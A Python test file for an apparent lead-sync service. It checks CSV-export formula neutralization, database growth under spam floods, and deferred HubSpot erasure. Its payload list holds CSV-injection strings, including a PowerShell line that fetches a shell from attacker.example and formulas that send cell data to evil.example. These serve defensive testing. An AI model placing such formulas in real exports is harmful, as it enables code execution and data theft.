"""Red team, privacy side (issue 14 items 4-6): spreadsheet formulas in the CSV export, a flood of spam posts
against the database's size, and `forget` while HubSpot is down, each against real parts (the CLI, PostgreSQL
or SQLite, the HubSpot emulator, the ASGI app)."""

from __future__ import annotations

import csv
import io
import json
import random
import string
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select, text
from starlette.testclient import TestClient

from leadsync.cli import main
from leadsync.config import Settings
from leadsync.forms.app import create_app
from leadsync.forms.submit import store_batch
from leadsync.sales_view import safe_cell
from leadsync.storage.db import get_engine, session_scope
from leadsync.storage.models import Contact, Erasure, SpamCount, Submission
from leadsync.storage.submissions import SAMPLE_TEXT, SPAM_SAMPLE_PER_DAY, NewSubmission
from tests.conftest import apply_settings
from tests.integration.test_pipeline import count
from tests.support.hubspot_emulator import HubSpotEmulator
from tests.support.services import SmtpSink
from tests.support.stack import LeadsyncStack, wait_for

HUBSPOT_TOKEN = "pat-na1-red-team-privacy"
MB = 1024 * 1024

# The OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), their usual
# variants, and the same behind the whitespace and invisible characters spreadsheets skip.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1,1)",
    "=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\tcalc",
    "\rcalc",
    " =1+1",
    "   @SUM(1,1)",
    "\n=1+1",
    "\u200b=1+1",  # zero-width space
    "\u200c+1",  # zero-width non-joiner
    "\u200d-1",  # zero-width joiner
    "\ufeff@SUM(1,1)",  # byte order mark
    "\u2060=1+1",  # word joiner
    "\u00ad=1+1",  # soft hyphen (category Cf)
    "\u200e\u200f=1+1",  # direction marks (Cf)
    " \u200b \ufeff=cmd|' /C calc'!A0",
]
HARMLESS = ["Ann", "Jean-Luc", "O'Brien", "a=b", "x@y", "1+1", "Ann \u200b", ""]


def test_every_owasp_payload_is_neutralized_and_harmless_text_is_not() -> None:
    for payload in OWASP_PAYLOADS:
        assert safe_cell(payload) == "'" + payload, repr(payload)
    for harmless in HARMLESS:
        assert safe_cell(harmless) == harmless, repr(harmless)


@pytest.mark.parametrize("backend", ["embedded"])  # the export reads with plain queries: one backend is enough
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(settings: Settings) -> None:
    """Contacts whose every text column holds a payload, exported by the real command and read back."""
    with session_scope() as session:
        for number, payload in enumerate(OWASP_PAYLOADS):
            session.add(
                Contact(
                    email=f"p{number}@example.org",
                    first_name=payload,
                    last_name=None,
                    phone=payload,
                    interest=payload,
                    field_times={},
                    lifecycle_stage="lead",
                    crm_status="rejected",
                    crm_error=payload,
                    hubspot_id=payload[:64],
                )
            )
    result = CliRunner().invoke(main, ["contacts", "export", "--csv"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
    assert len(rows) == len(OWASP_PAYLOADS)
    by_email = {row["email"]: row for row in rows}
    for number, payload in enumerate(OWASP_PAYLOADS):
        row = by_email[f"p{number}@example.org"]
        for column in ("name", "phone", "sync_error", "hubspot_id"):
            stored = payload[:64] if column == "hubspot_id" else payload
            assert row[column] == "'" + stored, (column, payload, row[column])  # shown as text, never run
        assert row["requested"].startswith("packet: ") or row["requested"] == "newsletter"


@pytest.fixture
def stack(tmp_path: Path, base_env: dict[str, str], smtp: SmtpSink) -> Iterator[tuple[LeadsyncStack, HubSpotEmulator]]:
    emulator = HubSpotEmulator(token=HUBSPOT_TOKEN).start()
    env = {
        **base_env,
        "SMTP_HOST": smtp.host,
        "SMTP_PORT": str(smtp.port),
        "HUBSPOT_ACCESS_TOKEN": HUBSPOT_TOKEN,
        "HUBSPOT_BASE_URL": emulator.url,
        "CRM_FLUSH_INTERVAL_SECONDS": "0.5",
        "FORM_TOKEN_SECRET": "red-team-privacy-secret-of-forty-bytes-00",
    }
    running = LeadsyncStack(env, tmp_path / "stack").start()
    yield running, emulator
    running.stop()
    emulator.stop()


def leadsync(running: LeadsyncStack, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "leadsync", *args],
        cwd=running.workdir,
        env=running.env,
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.mark.integration
def test_forget_while_hubspot_answers_503_finishes_by_itself_when_it_is_back(
    stack: tuple[LeadsyncStack, HubSpotEmulator],
) -> None:
    running, hubspot = stack
    answer = running.post("info-packet", {"email": "ann@example.org", "first_name": "Ann", "last_name": "Lee"})
    assert answer.status_code == 202, answer.text
    record = wait_for(lambda: hubspot.contact_by_email("ann@example.org"), what="Ann synced to HubSpot")
    hubspot.fail_for(3600, 503)  # HubSpot is down
    forgotten = leadsync(running, "forget", "ann@example.org", "--yes")
    assert forgotten.returncode == 0, forgotten.stderr
    assert "erased locally: 1 submissions" in forgotten.stdout
    assert "HubSpot: not done yet" in forgotten.stdout and "leadsync status" in forgotten.stdout
    assert count(running, select(func.count()).select_from(Contact)) == 0
    assert count(running, select(func.count()).select_from(Submission)) == 0
    assert count(running, select(func.count()).where(Erasure.hubspot_ids.is_not(None))) == 1  # durable
    status = leadsync(running, "status", "--json")
    report = json.loads(status.stdout)
    assert status.returncode == 1 and report["erasures"]["pending"] == 1  # degraded until HubSpot confirms
    assert any("HubSpot erasure" in reason and "503" in reason for reason in report["reasons"]), report["reasons"]
    assert hubspot.contact_by_email("ann@example.org") is not None  # still there: HubSpot refused

    hubspot.fail_for(0)  # HubSpot is back: the worker's beat finishes the job, nobody runs anything
    wait_for(
        lambda: count(running, select(func.count()).select_from(Erasure)) == 0,
        timeout=60,
        what="the erasure job done by the worker",
    )
    assert hubspot.contact_by_email("ann@example.org") is None and record["id"] not in hubspot.contacts
    assert "ann@example.org" in hubspot.erased_emails  # the delete by email went through too
    report = json.loads(leadsync(running, "status", "--json").stdout)
    assert report["erasures"] == {"pending": 0}
    assert not any("erasure" in reason for reason in report["reasons"])


# ------------------------------------------------------------------------------------------ the flood

_RANDOM = random.Random(14)


def noise(length: int) -> str:
    """Text that does not compress (PostgreSQL compresses long values: repeated letters would hide the size)."""
    return "".join(_RANDOM.choices(string.ascii_letters + string.digits, k=length))


LONG = {  # every field at its longest: a full spam row was ~24 KB
    "first_name": "Bot",
    "interest": noise(200),
    "message": noise(5000),
    "page_url": "https://clinic.example/" + noise(2000),
    **{f"utm_{name}": noise(255) for name in ("source", "medium", "campaign", "term", "content")},
    "website": "http://spam.example/" + noise(2000),
}


def flood_post(reason: str = "honeypot") -> NewSubmission:
    """What the endpoint hands the group commit for a honeypot post with every field at its longest."""
    fields = {key: value for key, value in LONG.items() if key != "website"}
    return NewSubmission(
        form="info_packet",
        email="victim@example.org",
        fields=fields,
        raw={**LONG, "email": "victim@example.org"},
        ip="203.0.113.66",
        user_agent=noise(512),
        page_url=LONG["page_url"],
        utm={key: value for key, value in LONG.items() if key.startswith("utm_")},
        consent={"newsletter": False, "text_version": "2026-11", "ip": "203.0.113.66", "user_agent": "a" * 512},
        spam_reason=reason,
    )


def database_bytes() -> int:
    """Tables, indexes and TOAST on PostgreSQL; the database's pages on SQLite (its write-ahead log included:
    page_count is the size as the database sees it, not only what was checkpointed to the main file)."""
    engine = get_engine()
    with engine.connect() as connection:
        if engine.dialect.name == "postgresql":
            return int(
                connection.scalar(
                    text(
                        "SELECT sum(pg_total_relation_size(c.oid)) FROM pg_class c "
                        "JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relkind = 'r'"
                    )
                )
            )
        pages = connection.exec_driver_sql("PRAGMA page_count").scalar_one()
        return int(pages * connection.exec_driver_sql("PRAGMA page_size").scalar_one())


def spam_counted() -> dict[str, int]:
    with session_scope() as session:
        return {reason: n for reason, n in session.execute(select(SpamCount.reason, SpamCount.count))}


def test_100000_honeypot_posts_from_one_address_add_less_than_10_mb(settings: Settings) -> None:
    """In bulk through the group commit's writer (`store_batch`, what the endpoint calls), 200 a transaction
    as under load; the HTTP path is checked on a smaller flood below."""
    store_batch([flood_post()])  # the tables' first pages exist before measuring
    before = database_bytes()
    batch = [flood_post()] * 200
    for _ in range(500):
        outcomes = store_batch(batch)
        assert all(outcome.created for outcome in outcomes)  # answered like a success, so the bot learns nothing
    grown = database_bytes() - before
    assert grown < 10 * MB, f"the database grew {grown / MB:.2f} MB"
    assert spam_counted() == {"honeypot": 100_001}
    with session_scope() as session:
        samples = session.scalars(select(Submission)).all()
    assert len(samples) == SPAM_SAMPLE_PER_DAY  # a sample to look at, not 100,000 rows
    assert all(len(json.dumps(sample.raw)) < 3000 for sample in samples)
    assert all(len(sample.raw["message"]) == SAMPLE_TEXT and sample.spam_reason == "honeypot" for sample in samples)


def test_a_flood_over_http_is_answered_like_success_counted_and_not_stored(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, base_env: dict[str, str]
) -> None:
    configured = apply_settings(monkeypatch, {**base_env, "RATE_LIMIT_PER_IP": "5 per hour"})
    honeypot = {**LONG, "email": "victim@example.org"}
    person = {key: value for key, value in honeypot.items() if key != "website"}
    with TestClient(create_app(configured)) as client:
        before = database_bytes()
        for _ in range(300):  # the honeypot bot, then a bot over the per-IP limit
            assert client.post("/forms/info-packet", json=honeypot).status_code == 202
        answers = [client.post("/forms/info-packet", json=person).status_code for _ in range(100)]
        grown = database_bytes() - before
    assert answers == [202] * 100
    assert spam_counted() == {"honeypot": 300, "ip_rate": 100}  # the honeypot posts count against the IP too
    with session_scope() as session:
        by_status = dict(session.execute(select(Submission.status, func.count()).group_by(Submission.status)).all())
    assert by_status == {"spam": 2 * SPAM_SAMPLE_PER_DAY}
    assert grown < 1 * MB, f"400 spam posts grew the database {grown / MB:.2f} MB"  # whole rows: ~10 MB
    report = json.loads(CliRunner().invoke(main, ["status", "--json"]).output)
    assert report["spam_today"] == {"honeypot": 300, "ip_rate": 100}
    assert report["submissions_by_form"]["info_packet"] == {"spam": 400}
